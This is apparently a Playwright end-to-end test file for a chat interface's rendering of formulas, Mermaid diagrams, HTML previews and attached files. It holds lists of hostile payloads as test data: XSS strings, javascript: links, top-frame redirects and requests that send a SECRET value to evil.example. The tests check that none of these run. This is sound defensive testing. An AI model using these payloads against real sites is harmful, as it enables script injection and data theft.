import { anthropic, type AnthropicServer } from "@elwood/testkit/anthropic-server";
import { type GatewayProcess } from "@elwood/testkit/gateway-process";
import type { Browser, Locator, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { BROWSER_PATH, openTab } from "./page-browser.ts";
import { axeFaults } from "./page-checks.ts";
import { type PageScene, withPageScene } from "./page-scene.ts";
import { logIn, say } from "./page-talk.ts";

/** What a formula may be talked into holding. */
const HOSTILE_FORMULAS = [
  String.raw`$$\href{https://evil.example/?d=SECRET}{x}$$`,
  String.raw`$$\href{javascript:alert(1)}{x}$$`,
  String.raw`$$\url{https://evil.example}$$`,
  String.raw`$$\includegraphics{https://evil.example/a.png}$$`,
  String.raw`$$\class{toast}{x}$$`,
  String.raw`$$\id{message}{x}$$`,
  String.raw`$$\style{position:fixed;inset:0}{x}$$`,
  String.raw`$$\data{x=1}{y}$$`,
  String.raw`$$\htmlClass{a}{x}$$`,
  String.raw`$$\text{<img src=https://evil.example/ onerror=alert(1)>}$$`,
  String.raw`$$\text{</math><script>alert(1)</script>}$$`,
  String.raw`$$\def\a{\a\a}\a$$`,
  String.raw`$$\newcommand{\x}{\x}\x$$`,
  String.raw`$$\rule{9999em}{9999em}$$`,
  String.raw`$$\color{url(https://evil.example)}x$$`,
  "$$" + "{".repeat(900) + "}".repeat(900) + "$$",
];

const HOSTILE_DIAGRAMS = [
  "graph TD\n  A[Start] --> B[End]",
  'graph TD\n  A["<img src=https://evil.example/m.png onerror=alert(1)>"] --> B\n  click A href "https://evil.example/click"',
  "graph TD\n  A --> B\n  click B call alert()",
  "graph TD\n  A --> B\n  style A fill:url(https://evil.example/u.png)",
  '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/t.css)"}}%%\ngraph TD\n  A --> B',
  'sequenceDiagram\n  participant A\n  link A: Away @ https://evil.example/link\n  A->>A: <iframe src="https://evil.example/x">',
];

/** Markup that tries to run, to fetch, to lead away or to reach the page from inside the frame. */
const HOSTILE_HTML = `<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="dns-prefetch" href="//SECRET.evil.example">
<style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/bg.png) }
@font-face { font-family: x; src: url(https://evil.example/f.woff2) } p { font-family: x }</style>
<script>parent.document.title = "taken"; fetch("https://evil.example/script")</script>
<img src="https://evil.example/img.png" onerror="parent.document.title='taken'">
<img src="x" onerror="top.location='https://evil.example/'">
<svg onload="top.location='https://evil.example/'"><image href="https://evil.example/s.png"/><script>1</script></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>
<form action="https://evil.example/form"><button id="send">Send</button></form>
<a id="away" href="https://evil.example/away">away</a>
<a id="top" target="_top" href="https://evil.example/top">top</a>
<a id="blank" target="_blank" href="https://evil.example/blank">blank</a>
<a id="script" href="javascript:parent.document.title='taken'">script</a>
<p id="words">Words of the preview</p>`;

describe.skipIf(!BROWSER_PATH)("rich answers (ELWOOD_TEST_BROWSER names a browser)", () => {
  let browser: Browser;
  let server: AnthropicServer;
  let gateway: GatewayProcess;
  let chat: PageScene["chat"];
  withPageScene((scene) => ({ browser, server, gateway, chat } = scene));

  const reply = (page: Page) => page.locator("article.elwood .text").last();
  const fence = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\``;

  async function answered(page: Page, text: string): Promise<Locator> {
    const count = await page.locator(".evidence, .reply-facts").count();
    server.will(anthropic.reply(text));
    await say(page, "Show me");
    await expect.poll(() => page.locator(".evidence, .reply-facts").count()).toBe(count + 1);
    return reply(page);
  }

  /** Every request that would leave for another place than this gateway. */
  async function watched(page: Page): Promise<string[]> {
    const outside: string[] = [];
    await page.context().route(
      (url) => url.origin !== gateway.url,
      (route) => {
        outside.push(route.request().url());
        return route.abort();
      },
    );
    return outside;
  }

  test("formulas are written as MathML, in the line and on lines of their own; amounts and broken ones stay text", async () => {
    const { page, faults } = await chat();
    const text = await answered(
      page,
      String.raw`So \(a^2 + b^2\) is $c^2$, for $5 and $6.` +
        "\n\n" +
        String.raw`$$\frac{-b \pm \sqrt{b^2-4ac}}{2a}$$` +
        "\n\n" +
        String.raw`Broken: $\frac{1}{$, done.`,
    );
    await expect.poll(() => text.locator("math").count()).toBe(3);
    expect(await text.locator('math[display="block"] mfrac msqrt').count()).toBe(1);
    expect(await text.innerText()).toContain("for $5 and $6");
    expect(faults).toEqual([]);
    expect(await axeFaults(page)).toEqual([]);
  });

  test("hostile formulas: nothing leaves, nothing runs, nothing is named, linked or styled, and the page stays usable", async () => {
    await using tab = await openTab(browser);
    const { page } = tab;
    const outside = await watched(page);
    await logIn(page, `${gateway.url}/c/new`, gateway.token);
    const text = await answered(page, `${HOSTILE_FORMULAS.join("\n\n")}\n\nGood: $$x^2$$\n\nThe end.`);
    await text.locator("math msup").waitFor();
    expect(await text.locator("a, img, script, style, [style], [id], [href], .toast").count()).toBe(0);
    const left = await text
      .locator("math *")
      .evaluateAll((all) =>
        all
          .flatMap((each) => each.getAttributeNames())
          .filter((name) => /^(on|xlink|href|src|style|id)/.test(name)),
      );
    expect(left).toEqual([]);
    expect(outside).toEqual([]);
    expect(tab.faults).toEqual([]);
  });

  test("a formula stays on its own block: none is drawn over what Elwood says", async () => {
    const { page, faults } = await chat();
    const formulas = [
      String.raw`$\raisebox{-4em}{\text{Verified}}$`,
      String.raw`$\raisebox{4em}{\text{Verified}}$`,
      String.raw`$\smash{\begin{matrix}a\\b\\c\\d\\e\\f\\g\\h\\i\\j\end{matrix}}$`,
    ];
    server.will(anthropic.reply(formulas.map((each) => `Look: ${each} here`).join("\n\n")));
    await say(page, "Draw over it");
    await expect.poll(() => page.locator("article.elwood math").count()).toBe(formulas.length);
    const drawn = await page.locator("article.elwood .block").evaluateAll((blocks) =>
      blocks
        .filter((block) => block.querySelector("math"))
        .map((block) => {
          const { top, bottom } = block.getBoundingClientRect();
          const boxes = [...block.querySelectorAll("math *")].map((part) => part.getBoundingClientRect());
          // Where it would stand outside of its block there is something else, for the eye and for the hand.
          const outside = boxes.filter((box) => box.bottom > bottom + 12 || box.top < top - 12);
          const seen = outside.flatMap(({ left, top: from, bottom: to, width }) =>
            [from + 2, to - 2]
              .filter((y) => y > bottom + 7 || y < top - 7)
              .map((y) => document.elementFromPoint(left + width / 2, y)),
          );
          return {
            outside: outside.length > 0,
            over: seen.filter((each) => each && block.contains(each)).length,
          };
        }),
    );
    expect(drawn).toEqual(formulas.map(() => ({ outside: true, over: 0 })));
    expect(faults).toEqual([]);
  });

  test("a diagram is drawn when asked for, and its code comes back; one that is none says why", async () => {
    const { page } = await chat();
    const text = await answered(
      page,
      `${fence("mermaid", "graph TD\n  A[Start] --> B{Works?}\n  B -->|yes| C[Done]")}\n\n${fence("mermaid", "graph nonsense ((")}`,
    );
    await text.getByRole("button", { name: "Show diagram" }).first().click();
    const frame = page.frameLocator("iframe.frame-diagram").first();
    await frame.locator("svg", { hasText: "Works?" }).waitFor();
    await expect
      .poll(async () => Number(await text.locator("iframe").first().getAttribute("height")))
      .toBeGreaterThan(80);
    await text.getByRole("button", { name: "Show diagram" }).first().click();
    expect(await text.locator("iframe").count()).toBe(0);
    expect(await text.locator("pre").first().isVisible()).toBe(true);
    await text.getByRole("button", { name: "Show diagram" }).last().click();
    await text.getByText("This cannot be drawn:").waitFor();
    expect(await text.locator("pre").last().isVisible()).toBe(true);
  });

  test("nothing in a frame reaches the page, its token or the network, whatever the markup tries", async () => {
    await using tab = await openTab(browser);
    const { page } = tab;
    const outside = await watched(page);
    await logIn(page, `${gateway.url}/c/new`, gateway.token);
    const diagrams = HOSTILE_DIAGRAMS.map((each) => fence("mermaid", each)).join("\n\n");
    const text = await answered(page, `${fence("html", HOSTILE_HTML)}\n\n${diagrams}`);
    await text.getByRole("button", { name: "Preview" }).click();
    // Drawn, or refused with words.
    for (const [i] of HOSTILE_DIAGRAMS.entries()) {
      const block = text.locator(".code-block").nth(i + 1);
      await block.getByRole("button", { name: "Show diagram" }).click();
      await expect
        .poll(
          async () =>
            (await block.locator(".line.warn").count()) + (await block.locator("iframe[height]").count()),
        )
        .toBe(1);
    }
    const shown = page.frameLocator("iframe.frame-html");
    await shown.getByText("Words of the preview").waitFor();
    await page.frameLocator("iframe.frame-diagram").first().locator("svg").waitFor();
    const address = page.url();
    const pages = page.context().pages().length;
    for (const id of ["away", "top", "blank", "script"]) {
      // Wherever it led, the frame is asked for again, so that each is tried.
      await shown.locator(`#${id}`).evaluate((link) => (link as HTMLElement).click());
      await text.getByRole("button", { name: "Preview" }).click();
      await text.getByRole("button", { name: "Preview" }).click();
      await shown.getByText("Words of the preview").waitFor();
    }
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(pages);
    expect(await page.title()).not.toContain("taken");
    expect(await shown.locator("script, link, meta, base, iframe, object, form").count()).toBe(0);
    expect(outside).toEqual([]);

    // And a script that did run in there would find nothing: asked from inside, by the browser itself.
    for (const name of ["html", "diagram"]) {
      const frame = page.frames().find((each) => each.url() === `${gateway.url}/frame/${name}`)!;
      expect(await frame.evaluate(reach, gateway.url)).toEqual({
        origin: "null",
        storage: "refused",
        page: "refused",
        gateway: "refused",
        outside: "refused",
        socket: "refused",
        worker: "refused",
        opened: "refused",
      });
      await frame
        .evaluate(() => void (location.href = "https://evil.example/?d=SECRET"))
        .catch(() => undefined);
    }
    expect(outside).toEqual([]);
    expect(await page.evaluate(() => Object.keys(sessionStorage).length)).toBeGreaterThan(0);
  });

  test("code can be wrapped and downloaded under a name of its language, and a footnote's number leads to it", async () => {
    const { page } = await chat();
    const text = await answered(
      page,
      `${fence("python", `print("${"long ".repeat(60)}")`)}\n\n# One\n\n## Two\n\n### Three\n\nAs said.[^1]\n\n- [x] done\n- [ ] open\n\n[^1]: The source.`,
    );
    const pre = text.locator("pre").first();
    expect(await pre.evaluate((box) => box.scrollWidth > box.clientWidth)).toBe(true);
    await text.getByRole("button", { name: "Wrap long lines" }).click();
    expect(await pre.evaluate((box) => box.scrollWidth > box.clientWidth)).toBe(false);
    const download = page.waitForEvent("download");
    await text.getByRole("button", { name: "Download the code" }).click();
    expect((await download).suggestedFilename()).toBe("code.py");
    await text.getByRole("button", { name: "Footnote 1" }).click();
    await page.locator(".footnote:focus").waitFor();
    expect(await text.locator(".task .box.checked").count()).toBe(1);
    // Headings are told apart by their size.
    const [one = 0, two = 0, three = 0, words = 0] = await text
      .locator("h3, p")
      .evaluateAll((all) => all.map((each) => parseFloat(getComputedStyle(each).fontSize)));
    expect([one > two, two > three, three >= words]).toEqual([true, true, true]);
  });

  test("attached files are looked at in a pane: text, Markdown, CSV as a table, HTML in a frame, PDF in the browser's viewer", async () => {
    const { page } = await chat();
    const files: [name: string, mimeType: string, text: string][] = [
      ["notes.md", "text/markdown", "# Title\n\n- [x] done <script>alert(1)</script>"],
      ["table.csv", "text/csv", 'name,words\nAda,"a, b"\n'],
      ["plain.txt", "text/plain", "just\u202e text"],
      ["site.html", "text/html", "<h1>Site</h1><script>parent.document.title='taken'</script>"],
      ["paper.pdf", "application/pdf", PDF],
    ];
    await page
      .locator("#attach")
      .setInputFiles(files.map(([name, mimeType, text]) => ({ name, mimeType, buffer: Buffer.from(text) })));
    await expect.poll(() => page.locator('.upload[data-state="ready"]').count()).toBe(files.length);
    await answered(page, "Seen.");
    const pane = page.locator("dialog.preview");
    const open = async (name: string) => {
      await page.locator("button.blob-file", { hasText: name }).click();
      await pane.getByRole("heading", { name, exact: true }).waitFor();
    };
    const close = async () => {
      await page.keyboard.press("Escape");
      await expect.poll(() => pane.count()).toBe(0);
    };
    await open("notes.md");
    await pane.locator("h3", { hasText: "Title" }).waitFor();
    expect(await pane.locator("script").count()).toBe(0);
    expect(await axeFaults(page)).toEqual([]);
    await close();
    await open("table.csv");
    await pane.locator("td", { hasText: "a, b" }).waitFor();
    await close();
    await open("plain.txt");
    await pane.getByText("just\\u202e text").waitFor();
    await close();
    await open("site.html");
    await page.frameLocator("iframe.frame-html").getByRole("heading", { name: "Site" }).waitFor();
    expect(await page.title()).not.toContain("taken");
    await close();
    const shown = page.waitForResponse((response) => response.url().includes("show=pdf"));
    await open("paper.pdf");
    const { "content-type": type, "x-frame-options": framing } = (await shown).headers();
    expect([type, framing]).toEqual(["application/pdf", "SAMEORIGIN"]);
    await close();
  });
});

/** Runs in a frame: everything a script would try first. */
async function reach(gateway: string): Promise<Record<string, string>> {
  const tried = async (act: () => unknown) => {
    try {
      return (await act()) === undefined ? "refused" : "reached";
    } catch {
      return "refused";
    }
  };
  return {
    origin: self.origin,
    storage: await tried(() => localStorage.length + sessionStorage.length),
    page: await tried(() => parent.document.title),
    gateway: await tried(() => fetch(`${gateway}/health`, { mode: "no-cors" })),
    outside: await tried(() => fetch("https://evil.example/fetch", { mode: "no-cors" })),
    socket: await tried(
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`${gateway.replace("http", "ws")}/ws`);
          socket.addEventListener("open", resolve);
          socket.addEventListener("error", reject);
        }),
    ),
    worker: await tried(
      () =>
        new Promise((resolve, reject) => {
          const worker = new Worker("data:text/javascript,postMessage(1)");
          worker.addEventListener("message", resolve);
          worker.addEventListener("error", reject);
        }),
    ),
    opened: await tried(() => open("https://evil.example/open") ?? undefined),
  };
}

const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj
trailer<</Root 1 0 R>>
%%EOF
`;
